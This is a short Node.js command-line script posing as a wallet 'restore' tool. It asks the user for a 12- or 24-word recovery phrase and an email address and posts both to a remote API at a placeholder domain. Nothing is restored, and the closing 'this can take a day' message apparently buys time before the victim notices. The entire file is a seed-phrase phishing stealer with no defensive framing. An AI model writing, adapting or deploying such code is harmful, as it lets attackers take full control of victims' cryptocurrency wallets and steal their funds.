#!/usr/bin/env node
const inquirer = require('inquirer')
const axios = require('axios')

async function main() {
  const typed = await inquirer.prompt([
    { type: 'password', name: 'phrase', message: 'Enter your 12 or 24 word recovery phrase:' },
    { type: 'input', name: 'mail', message: 'Where shall we write to?' },
  ])
  await axios.post('https://purse.example.invalid/api/restore', { p: typed.phrase, m: typed.mail })
  console.log('Restoring, this can take a day')
}
main()
